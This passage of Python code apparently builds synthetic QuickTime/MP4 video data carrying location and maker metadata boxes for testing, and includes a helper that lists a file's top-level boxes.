    xyz = video_box(b"\xa9xyz", struct.pack(">HH", len(VIDEO_PLACE), 0x15C7), VIDEO_PLACE if place else b"")
    loci = video_box(b"loci", bytes(4), b"\x15\xc7", VIDEO_PLACE_NAME + b"\0", b"\0",
                     struct.pack(">iii", int(-122.009 * 65536), int(37.3349 * 65536), 30 * 65536), b"earth\0\0")
    make = b"com.apple.quicktime.make"
    keys = [b"com.apple.quicktime.location.ISO6709", make] if place else [make]
    keys_box = video_box(b"keys", bytes(4), struct.pack(">I", len(keys)),
                         *(struct.pack(">I4s", len(k) + 8, b"mdta") + k for k in keys))
    values = [VIDEO_PLACE, b"Apple"] if place else [b"Apple"]
    ilst = video_box(b"ilst", *(video_box(struct.pack(">I", n), video_box(b"data", struct.pack(">II", 1, 0), v))
                                 for n, v in enumerate(values, 1)))
    hdlr = video_box(b"hdlr", bytes(8), b"mdta", bytes(12), b"\0")
    meta = video_box(b"meta", b"" if quicktime else bytes(4), hdlr, keys_box, ilst)
    udta = video_box(b"udta", *((xyz, loci) if place else ()), b"\0\0\0\0")
    return ftyp + mdat + video_box(b"moov", mvhd, trak, udta, meta)


def video_boxes(data: bytes, start: int = 0, end: int | None = None) -> list[tuple[bytes, int, int]]:
    """The top-level boxes of data (or those between start and end): (type, offset, size)."""
    end = len(data) if end is None else end
    found, at = [], start
    while end - at >= 8:
        size, kind = struct.unpack(">I4s", data[at:at + 8])
        if size == 1:
            size = struct.unpack(">Q", data[at + 8:at + 16])[0]
        found.append((kind, at, size or end - at))
        at += size or end - at
    return found
